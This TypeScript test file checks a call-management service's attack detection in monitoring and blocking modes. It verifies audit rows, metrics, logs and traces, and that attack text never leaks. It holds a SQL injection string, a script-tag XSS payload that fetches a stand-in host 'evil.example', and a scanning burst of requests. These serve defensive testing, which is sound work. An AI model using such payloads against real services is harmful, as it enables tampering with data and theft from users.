/** What an attack on the running service leaves behind, and what it does not. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { adminOf, type Client, clientOf } from '../support/client.ts'
import { type OtlpSink, otlpSink } from '../support/otlp-sink.ts'
import { type Caly, eventually, startCaly } from '../support/process.ts'

const canary = 'canaryquxqux'
const sql = `${canary}' OR '1'='1' -- `
const script = `<script>fetch('//evil.example/${canary}')</script>`
const secret = 'webhook-secret-4711'
const call = { from: '+912233445566', to: '+919876500010' }
const honest = "O'Brien & Sons; said 'yes' or 'no' <call at 5 | 6>"

let sink: OtlpSink
let monitoring: Caly
let blocking: Caly
beforeAll(async () => {
  sink = await otlpSink()
  const common = { CALY_PROVIDER: 'simulator', EXOTEL_WEBHOOK_SECRET: secret }
  ;[monitoring, blocking] = await Promise.all([
    startCaly({
      env: { ...common, OTEL_EXPORTER_OTLP_ENDPOINT: sink.url, OTEL_BSP_SCHEDULE_DELAY: '100' },
    }),
    startCaly({
      env: {
        ...common,
        ANOMALY_MODE: 'block',
        ANOMALY_EXCEPTIONS: 'PATCH /api/calls/:id body.notes cross-site-scripting',
      },
    }),
  ])
}, 120_000)
afterAll(async () => {
  await Promise.all([monitoring.stop(), blocking.stop()])
  await sink.close()
}, 60_000)

/** The findings of the audit rows there are, newest first. */
async function violations(admin: Client) {
  const { body } = await admin('GET', '/api/audit?eventType=SECURITY_VIOLATION')
  return body.items as readonly {
    readonly details: { readonly findings: string[]; readonly blocked: boolean }
    readonly statusCode: number | null
    readonly path: string | null
  }[]
}

const anomalyLines = (caly: Caly) =>
  caly
    .output()
    .split('\n')
    .filter((line) => line.includes('"msg":"anomaly"'))

describe('monitoring', () => {
  test('an attack is served, and stands in trail, log, metrics and trace, without its text', async () => {
    const admin = await adminOf(monitoring)
    const { status } = await admin('POST', '/api/calls', { ...call, customField: sql })
    expect(status).toBe(202)

    const [row] = await eventually(
      () => violations(admin),
      ({ length }) => length > 0,
    )
    expect(row?.details).toMatchObject({
      findings: ['sql-injection in body.customField'],
      blocked: false,
    })
    const { body: metrics } = await clientOf(monitoring)('GET', '/metrics')
    expect(metrics).toMatch(
      /^caly_anomalies_total\{.*caly_anomaly_kind="sql-injection",caly_anomaly_action="monitor".*\} 1/m,
    )
    const [line] = await eventually(
      async () => anomalyLines(monitoring),
      ({ length }) => length > 0,
    )
    expect(JSON.parse(line ?? '{}')).toMatchObject({
      findings: [{ kind: 'sql-injection', place: 'body', name: 'customField' }],
      route: '/api/calls',
    })
    const spans = await sink.waitFor((all) => all.some(({ events }) => events.length > 0))
    expect(spans.find(({ events }) => events.includes('caly.anomaly'))?.name).toBe(
      'POST /api/calls',
    )
    expect(`${JSON.stringify([row, spans])}${line}${metrics}`).not.toContain(canary)
  })

  test("a stranger's attack is refused as ever, and told", async () => {
    const stranger = clientOf(monitoring)
    const path = `/api/calls?status=${encodeURIComponent(script)}`
    expect((await stranger('GET', path)).status).toBe(401)
    expect((await stranger('GET', `/nothing?q=${encodeURIComponent(script)}`)).status).toBe(404)
    const lines = await eventually(
      async () => anomalyLines(monitoring).filter((line) => line.includes('cross-site')),
      ({ length }) => length >= 2,
    )
    expect(lines.join('')).not.toContain(canary)
  })

  test('a callback with the right secret is answered 200 and watched', async () => {
    const provider = clientOf(monitoring)
    const body = new URLSearchParams({ CallSid: 'a'.repeat(32), Status: script }).toString()
    const { status } = await provider('POST', `/api/webhooks/exotel/${secret}`, body, {
      'content-type': 'application/x-www-form-urlencoded',
    })
    expect(status).toBe(200)
    const lines = await eventually(
      async () => anomalyLines(monitoring).filter((line) => line.includes('"place":"body"')),
      (found) => found.some((line) => line.includes('cross-site')),
    )
    expect(lines.join('')).not.toContain(secret)
  })

  test('many paths that no route has are one event of scanning', async () => {
    const stranger = clientOf(monitoring)
    for (let i = 0; i < 40; i += 1) await stranger('GET', `/backup-${i}.zip`)
    const lines = await eventually(
      async () => anomalyLines(monitoring).filter((line) => line.includes('"traffic"')),
      ({ length }) => length > 0,
    )
    expect(lines).toHaveLength(1)
  })
})

describe('blocking', () => {
  test('an attack is 403 and changes nothing; an honest text passes', async () => {
    const admin = await adminOf(blocking)
    const refused = await admin('POST', '/api/calls', { ...call, customField: sql })
    expect(refused.status).toBe(403)
    expect(refused.body).toMatchObject({ code: 'FORBIDDEN', instance: '/api/calls' })
    expect(JSON.stringify(refused.body)).not.toContain(canary)
    const accepted = await admin('POST', '/api/calls', { ...call, customField: honest })
    expect(accepted.status).toBe(202)
    const { body: page } = await admin('GET', '/api/calls')
    expect(page.items).toHaveLength(1)
    const [row] = await violations(admin)
    expect(row).toMatchObject({
      statusCode: 403,
      outcome: 'denied',
      details: { blocked: true },
    })
  })

  test('a password may look like anything', async () => {
    const { status } = await clientOf(blocking)('POST', '/api/auth/login', {
      email: 'nobody@example.com',
      password: sql,
    })
    expect(status).toBe(401)
  })

  test('what the operator has excepted passes on its route, and nowhere else', async () => {
    const admin = await adminOf(blocking)
    const { body: placed } = await admin('POST', '/api/calls', call)
    const path = `/api/calls/${placed.id}`
    expect((await admin('PATCH', path, { notes: script })).status).toBe(200)
    expect((await admin('PATCH', path, { notes: sql })).status).toBe(403)
    expect((await admin('PATCH', path, { tags: [script] })).status).toBe(403)
  })

  test('probes, scrapers and the provider are answered', async () => {
    const stranger = clientOf(blocking)
    const query = `?x=${encodeURIComponent(sql)}`
    expect((await stranger('GET', `/health/live${query}`)).status).toBe(200)
    expect((await stranger('GET', `/health/ready${query}`)).status).toBe(200)
    expect((await stranger('GET', `/api/webhooks/exotel/${secret}${query}`)).status).toBe(200)
    expect(anomalyLines(blocking).some((line) => line.includes('"route":"/health/live"'))).toBe(
      true,
    )
  })
})

test('exceptions that name nothing stop the start, by name', async () => {
  const caly = await startCaly({
    env: { ANOMALY_EXCEPTIONS: '/api/nothing; /api/calls body.notes sqli' },
    ready: false,
  })
  expect(await caly.exited()).toBe(2)
  expect(caly.output()).toContain('ANOMALY_EXCEPTIONS names a route that there is not')
  expect(caly.output()).toContain('ANOMALY_EXCEPTIONS names a field that the route has not')
  expect(caly.output()).toContain('ANOMALY_EXCEPTIONS names a kind that there is not: sqli')
  await caly.stop()
}, 60_000)
